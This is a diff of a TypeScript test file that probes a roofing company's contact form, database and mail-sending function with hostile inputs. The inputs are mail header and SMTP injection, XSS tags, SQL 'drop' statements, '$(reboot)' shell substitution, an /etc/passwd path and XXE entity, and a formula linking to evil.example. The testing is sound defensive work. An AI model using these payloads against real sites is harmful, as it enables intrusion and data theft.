@@ -5,7 +5,7 @@ import { afterAll, beforeAll, describe, expect, inject, test, vi } from "vitest"
 import { type EdgeFunction, startEdgeFunction } from "../../embedded/edge-function.ts";
 import { embeddedKeys } from "../../embedded/environment.ts";
 import { type RunningDatabase, startDatabase } from "../../embedded/parts/running-database.ts";
-import { secretsFor } from "../../embedded/parts/running-function.ts";
+import { secretsFor, testCompany } from "../../embedded/parts/running-function.ts";
 import {
   messageIdOf,
   type ScriptedMailServer,
@@ -31,12 +31,11 @@ const quote: QuoteRequest = {
 };
 
 /** Without a digit, so that each in a confirmation is the visitor's. */
-const facts = {
-  companyName: "Dakbedrijf",
+const company = {
+  ...testCompany,
   phone: "(kantoor)",
   emergencyPhone: "(spoed)",
-  sender: "website@dakdekker.example",
-  replyTo: "eigenaar@dakdekker.example",
+  confirmationSender: "website@dakdekker.example",
 };
 
 let database: RunningDatabase;
@@ -44,16 +43,14 @@ let mailServer: ScriptedMailServer;
 let edgeFunction: EdgeFunction;
 
 beforeAll(async () => {
-  // The embedded interface reports every refusal there, and refusals are all that happens here.
+  // Where the embedded interface reports every refusal.
   vi.spyOn(console, "error").mockImplementation(() => {});
   database = await startDatabase(inject("newData"));
   mailServer = await startScriptedMailServer();
-  edgeFunction = await startEdgeFunction(secretsFor(mailServer.port, database.url));
+  edgeFunction = await startEdgeFunction(secretsFor(mailServer.port, database.url), company);
   // What is tried here is the content of requests; the caps have tests of their own.
-  await database.exec(`
-    update private.settings set most_in_all = 100000, doubtful_in_all = 100000,
-      most_confirmations_per_address = 100000, most_confirmations_in_all = 100000;
-    select public.set_confirmation_facts('${JSON.stringify(facts)}')`);
+  await database.exec(`update private.settings set max_per_hour = 100000, suspect_in_all = 100000,
+    max_confirmations_per_mailbox = 100000, max_confirmations_per_domain = 100000, max_confirmations_in_all = 100000`);
 });
 
 afterAll(async () => {
@@ -64,57 +61,41 @@ afterAll(async () => {
 
 const textFields = ["name", "phone", "email", "message"] as const;
 
-/** Texts that have broken forms, mails, databases and screens before. */
+/** One text for each way in which forms, mails, databases and screens have been broken before. */
 const nastyTexts: Record<string, string> = {
   "CRLF and a header": "Jan\r\nBcc: eve@evil.example",
-  "LF and a header": "Jan\nBcc: eve@evil.example",
   "CR and a header": "Jan\rSubject: x",
-  "an end of mail": "a\r\n.\r\nMAIL FROM:<eve@evil.example>\r\nRCPT TO:<eve@evil.example>",
   "folded header": "Jan\r\n\tBcc: eve@evil.example",
   "line separator": "Jan\u2028Bcc: eve@evil.example",
-  "paragraph separator": "Jan\u2029Bcc: eve@evil.example",
   "next line": "Jan\u0085Bcc: eve@evil.example",
+  "an end of mail": "a\r\n.\r\nMAIL FROM:<eve@evil.example>\r\nRCPT TO:<eve@evil.example>",
   "encoded word": "=?utf-8?B?QmNjOiBldmVAZXZpbC5leGFtcGxl?=",
-  "encoded right-to-left mark": "=?utf-8?B?4oCuZ25wLmV4ZQ==?= x",
-  "encoded line break": "=?utf-8?Q?Jan=0D=0ABcc:_eve@evil.example?=",
   "encoded word in an address": "=?utf-8?Q?eve?=@example.nl",
   "encoded words side by side": "=?utf-8?Q?a?==?utf-8?B?4oCu?=",
   "encoded word in pieces": "=\u0007?utf-8?B?4oCu?\u0007=",
   "doubled encoded word": "==??utf-8?B?4oCu?==??=",
   "script tag": "<script>alert(1)</script>",
-  "image tag": "<img src=x onerror=alert(1)>",
   "broken tag": "<svg/onload=alert(1)//",
   "closing tags": "</td></tr></table></html><h1>x</h1>",
   "attribute break-out": '" onmouseover="alert(1)" x=\'',
   entities: "&lt;b&gt;&#x3c;b&#x3e;",
   "script address": "javascript:alert(1)",
-  "HTML comment": "<!-- --!> -->",
-  CDATA: "]]><![CDATA[",
   // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the text itself that is tried.
   "template words": "{{7*7}} ${7*7} <%= 7*7 %>",
   SQL: "'; drop table contact_submissions; --",
   "SQL dollar quote": "$$; drop schema private cascade; $$",
-  "SQL copy": "\\N\t\\.",
   "right-to-left override": "Jan\u202Egpj.exe",
   isolates: "a\u2066b\u2069c\u2067d",
-  "Arabic letter mark": "a\u061cb",
   "zero width": "J\u200ban\u200d\ufeff",
   "combining flood": `Z${"\u0300".repeat(60)}`,
-  "emoji family": "👨‍👩‍👧‍👦🏠🇳🇱",
+  "letters that look like a dot": "evil\ua4f8example evil\ua78fexample",
   "half an emoji": "\ud83c",
-  "halves the wrong way round": "\udfe0\ud83c",
   NUL: "Jan\u0000Piet",
   "control characters": "\u0001\u0007\u001b[31mrood\u007f",
   noncharacter: "\uffff\ufffe",
-  "private use": "\ue000\u{10ffff}",
   backslashes: "\\\\\\n\\u0000",
-  quotes: "\"'`´‘’“”",
   "path climb": "../../../../etc/passwd",
-  "file address": "file:///etc/passwd",
   "shell words": "$(reboot) `reboot` | reboot; reboot",
-  "format words": "%s%n%x%00%0d%0a",
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: as above.
-  "lookup words": "${jndi:ldap://evil.example/a}",
   formula: '=HYPERLINK("https://evil.example","x")',
   "only spaces": " \t\n\u00a0\u3000",
   empty: "",
@@ -126,112 +107,73 @@ const nastyTexts: Record<string, string> = {
   "a megabyte": "x".repeat(1024 * 1024),
 };
 
-const wrongValues: Record<string, unknown> = {
-  null: null,
-  "a number": 1,
-  "a boolean": true,
-  "a list": ["Jan"],
-  "an object": { toString: "Jan" },
-  "a deep object": { a: { b: { c: [{}] } } },
-};
+const wrongValues: unknown[] = [
+  null,
+  1,
+  true,
+  ["Jan"],
+  { toString: "Jan" },
+  { a: { b: { c: [{}] } } },
+  undefined,
+];
 
-const wrongServices: Record<string, unknown> = {
-  none: [],
-  unknown: ["Zonnepanelen"],
-  "one text": "Dakgoten",
-  "a list as Postgres writes it": "{Dakgoten}",
-  "a list as Postgres writes it, unknown": "{Zonnepanelen}",
-  twice: ["Dakgoten", "Dakgoten"],
-  nested: [["Dakgoten"]],
-  "with null": ["Dakgoten", null],
-  "with a number": ["Dakgoten", 1],
-  "other case": ["dakgoten"],
-  "with a space": ["Dakgoten "],
-  "a thousand": Array.from({ length: 1000 }, () => "Dakgoten"),
-  "a tag": ["<b>Dakgoten</b>"],
-  "a number": 5,
-  "a fraction": 0.1,
-  "a boolean": true,
-  "an object": {},
-  "an object with a list": { services: ["Dakgoten"] },
-  "with an object": [{}],
-  "with a list and an object": [["Dakgoten"], {}],
-};
+const wrongServices: unknown[] = [
+  [],
+  ["Zonnepanelen"],
+  "Dakgoten",
+  "{Zonnepanelen}",
+  ["Dakgoten", "Dakgoten"],
+  [["Dakgoten"]],
+  ["Dakgoten", null],
+  ["Dakgoten "],
+  Array.from({ length: 1000 }, () => "Dakgoten"),
+  0.1,
+  { services: ["Dakgoten"] },
+  [["Dakgoten"], {}],
+];
 
 const unknownFields = [
   "id",
   "created_at",
   "spam_reason",
-  "to",
   "bcc",
-  "subject",
   "html",
-  "attachments",
   "__proto__",
   "constructor",
   "",
-  "name ",
   "NAME",
 ];
 
-const rawBodies: Record<string, string> = {
-  nothing: "",
-  "half an object": '{"name":"Jan"',
-  null: "null",
-  "a number": "1",
-  "a text": '"Jan"',
-  "an empty list": "[]",
-  "an empty object": "{}",
-  "deeply nested lists": `${"[".repeat(5_000)}${"]".repeat(5_000)}`,
-  "a deeply nested name": `{"name":${'{"a":'.repeat(2_000)}1${"}".repeat(2_000)}}`,
-  "a key twice": `{"name":"Eve",${JSON.stringify(quote).slice(1)}`,
-  "a key twice, the second wrong": `${JSON.stringify(quote).slice(0, -1)},"services":["Zonnepanelen"]}`,
-  "a list of requests": JSON.stringify([quote, { ...quote, name: "Piet" }]),
-  "a list with a bad one": JSON.stringify([
-    { ...quote, name: "Klaas" },
-    { ...quote, services: ["x"] },
-  ]),
-  "form encoding": "name=Jan&phone=06",
-  XML: '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
-  CSV: "name,phone\nJan,06",
-  "a byte order mark": `\ufeff${JSON.stringify(quote)}`,
-  "a comment": `// x\n${JSON.stringify(quote)}`,
-  "a large number": '{"name":1e999,"phone":"06"}',
-  "a megabyte of spaces": " ".repeat(1024 * 1024),
-};
-
-/** Name and body of every case; each goes to the table and to the function. */
-const corpus: [string, string][] = [
-  ...textFields.flatMap((field) =>
-    Object.entries(nastyTexts).map(([name, text]): [string, string] => [
-      `${field}: ${name}`,
-      JSON.stringify({ ...quote, [field]: text }),
-    ]),
-  ),
-  ...textFields.flatMap((field) =>
-    Object.entries(wrongValues).map(([name, value]): [string, string] => [
-      `${field} is ${name}`,
-      JSON.stringify({ ...quote, [field]: value }),
-    ]),
-  ),
-  ...textFields.map((field): [string, string] => [
-    `${field} is missing`,
-    JSON.stringify({ ...quote, [field]: undefined }),
-  ]),
-  ...Object.entries(wrongServices).map(([name, services]): [string, string] => [
-    `services: ${name}`,
-    JSON.stringify({ ...quote, services }),
-  ]),
-  ...unknownFields.map((field): [string, string] => [
-    `an unknown field: ${JSON.stringify(field)}`,
-    `{${JSON.stringify(field)}:"2020-01-01",${JSON.stringify(quote).slice(1)}`,
-  ]),
-  ...Object.entries(rawBodies),
+const rawBodies = [
+  "",
+  '{"name":"Jan"',
+  "null",
+  '"Jan"',
+  "[]",
+  "{}",
+  `${"[".repeat(5_000)}${"]".repeat(5_000)}`,
+  `{"name":${'{"a":'.repeat(2_000)}1${"}".repeat(2_000)}}`,
+  `{"name":"Eve",${JSON.stringify(quote).slice(1)}`,
+  `${JSON.stringify(quote).slice(0, -1)},"services":["Zonnepanelen"]}`,
+  JSON.stringify([quote, { ...quote, name: "Piet" }]),
+  "name=Jan&phone=06",
+  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
+  `\ufeff${JSON.stringify(quote)}`,
+  '{"name":1e999,"phone":"06"}',
+  " ".repeat(1024 * 1024),
 ];
 
-test("there are at least 200 cases", () => {
-  expect(corpus.length).toBeGreaterThanOrEqual(200);
-});
+/** Every body goes to the table and to the function. */
+const corpus: string[] = [
+  ...textFields.flatMap((field) =>
+    [...Object.values(nastyTexts), ...wrongValues].map((value) =>
+      JSON.stringify({ ...quote, [field]: value }),
+    ),
+  ),
+  ...wrongServices.map((services) => JSON.stringify({ ...quote, services })),
+  ...unknownFields.map((field) => `{${JSON.stringify(field)}:"2020-01-01",${JSON.stringify(quote).slice(1)}`),
+  ...rawBodies,
+];
 
 /** Sends a body to the table with the visitor's key. */
 function toTable(body: string, { method = "POST", headers = {}, query = "" } = {}) {
@@ -303,8 +245,8 @@ function expectNothingToTap(text: string) {
 function expectHarmless(mail: string) {
   const { subject, from, to, replyTo, text = "" } = extract(mail);
   expect(subject).toBe("Wij hebben uw aanvraag ontvangen");
-  expect(from?.address).toBe(facts.sender);
-  expect(replyTo).toMatchObject([{ address: facts.replyTo }]);
+  expect(from?.address).toBe(company.confirmationSender);
+  expect(replyTo).toMatchObject([{ address: company.email }]);
   expect(to).toHaveLength(1);
   expect(isPlainAddress(to?.[0]?.address ?? "")).toBe(true);
   expect(text).not.toMatch(/evil\.\S|<|06 12345678|Het lekt\./);
@@ -314,11 +256,11 @@ function expectHarmless(mail: string) {
 const mailsLeft = () => database.rows("select from private.outbox where state = 'waiting' and attempts = 0");
 
 test("the corpus: nothing breaks, no row is outside the rules, and mail goes to the owner and to plain addresses only", async () => {
-  for (const [name, body] of corpus) {
+  for (const body of corpus) {
     const stored = await toTable(body);
     await expectNoFault(stored);
     const answer = await fetch(edgeFunction.url, { method: "POST", body });
-    expect([name, [202, 400, 413].includes(answer.status)]).toEqual([name, true]);
+    expect([202, 400, 413], body.slice(0, 200)).toContain(answer.status);
     await answer.body?.cancel();
   }
   await expectOnlyGoodRows();
@@ -328,19 +270,19 @@ test("the corpus: nothing breaks, no row is outside the rules, and mail goes to 
   await expect
     .poll(async () => {
       await fetch(edgeFunction.url, { method: "POST", headers: secret });
-      return database.rows(`select from private.outbox where state = 'waiting'
-        union all select from private.confirmations where state = 'waiting'`);
+      return database.rows(`select from private.outbox as o where state = 'waiting' or (state = 'sent'
+        and not exists (select from private.confirmations as c where c.quote_id = o.quote_id))`);
     })
     .toEqual([]);
-  const rows = await database.rows<QuoteRequest & { spam_reason: string | null; state: string | null }>(
-    "select q.*, c.state from contact_submissions as q left join private.confirmations as c on c.quote_id = q.id",
+  const rows = await database.rows<QuoteRequest & { spam_reason: string | null }>(
+    "select * from contact_submissions",
   );
   expect(rows.length).toBeGreaterThan(100);
   const toVisitors = mailServer.accepted.filter((mail) => /^Auto-Submitted:/m.test(mail));
   const toOwner = mailServer.accepted.filter((mail) => !toVisitors.includes(mail));
-  expect(toOwner).toHaveLength(rows.length);
-  const confirmed = rows.filter(({ spam_reason, email }) => spam_reason === null && isPlainAddress(email));
-  expect(rows.filter(({ state }) => state === "sent")).toEqual(confirmed);
+  const mailed = rows.filter(({ spam_reason }) => spam_reason === null);
+  expect(toOwner).toHaveLength(mailed.length);
+  const confirmed = mailed.filter(({ email }) => isPlainAddress(email));
   expect(toVisitors).toHaveLength(confirmed.length);
   expect(new Set(mailServer.accepted.map(messageIdOf)).size).toBe(mailServer.accepted.length);
   expect([...mailServer.recipients].sort()).toEqual(
@@ -360,7 +302,7 @@ test("the corpus: nothing breaks, no row is outside the rules, and mail goes to 
 test("a replay of everything stores nothing and mails nothing", async () => {
   const before = await database.rows("select from contact_submissions");
   const sent = mailServer.accepted.length;
-  for (const [, body] of corpus) {
+  for (const body of corpus) {
     await (await toTable(body)).body?.cancel();
     await (await fetch(edgeFunction.url, { method: "POST", body })).body?.cancel();
   }
@@ -369,9 +311,11 @@ test("a replay of everything stores nothing and mails nothing", async () => {
   expect(mailServer.accepted).toHaveLength(sent);
 }, 120_000);
 
-test.each(Object.keys(wrongServices))("after services: %s, the next request is taken", async (name) => {
-  await (await toTable(JSON.stringify({ ...quote, services: wrongServices[name] }))).body?.cancel();
-  await expectToTakeRequests();
+test("after every wrong list of services, the next request is taken", async () => {
+  for (const services of wrongServices) {
+    await (await toTable(JSON.stringify({ ...quote, services }))).body?.cancel();
+    await expectToTakeRequests();
+  }
 });
 
 describe("Another way in", () => {
@@ -397,14 +341,6 @@ describe("Another way in", () => {
     expect(await visible()).toBeGreaterThanOrEqual(before);
     await expectOnlyGoodRows();
   });
-
-  test.each(["https://evil.example", "null", "https://dakdekker.example.evil.example", "file://"])(
-    "from the website %s is refused by the function",
-    async (origin) => {
-      const body = JSON.stringify(quote);
-      expect((await fetch(edgeFunction.url, { method: "POST", body, headers: { origin } })).status).toBe(403);
-    },
-  );
 });
 
 /** Any text at all, with halves of emoji and control characters more often than chance would bring them. */
@@ -425,7 +361,6 @@ const anyRequest: fc.Arbitrary<WaitingMail> = fc.record({
   lease: fc.uuid(),
   message_id: fc.uuid(),
   created_at: fc.constant("2026-11-21T09:30:00Z"),
-  spam_reason: fc.constantFrom(null, "source" as const, "flood" as const, "links" as const),
   name: storableText(fieldLimits.name),
   phone: storableText(fieldLimits.phone),
   email: storableText(fieldLimits.email),
@@ -435,7 +370,7 @@ const anyRequest: fc.Arbitrary<WaitingMail> = fc.record({
 
 describe("Whatever is typed", () => {
   const envelope = {
-    companyName: "Dakbedrijf",
+    company,
     from: "website@dakdekker.example",
     to: "eigenaar@dakdekker.example",
   };
@@ -479,10 +414,12 @@ describe("Whatever is typed", () => {
     fc.assert(
       fc.property(anyRequest, fc.emailAddress(), (request, email) => {
         if (request.kind !== "quote") return;
-        const { to, subject, text } = composeConfirmation({ ...request, quote_id: 1, email, facts });
+        const { to, subject, text } = composeConfirmation({ ...request, email }, company);
         expect([to, subject]).toEqual([{ name: "", address: email }, "Wij hebben uw aanvraag ontvangen"]);
         const [greeting = "", ...rest] = text.split("\n");
-        expect(greeting).toMatch(/^(Goedendag|Beste ['’]?\p{L}[\p{L}\p{M}.'’ -]{0,39}),$/u);
+        expect(greeting).toMatch(
+          /^(Goedendag|Beste ['’]?\p{Script=Latin}[\p{Script=Latin}\p{M}.'’ -]{0,39}),$/u,
+        );
         expectNothingToTap(greeting);
         expectNothingToTap(rest.join("\n"));
       }),
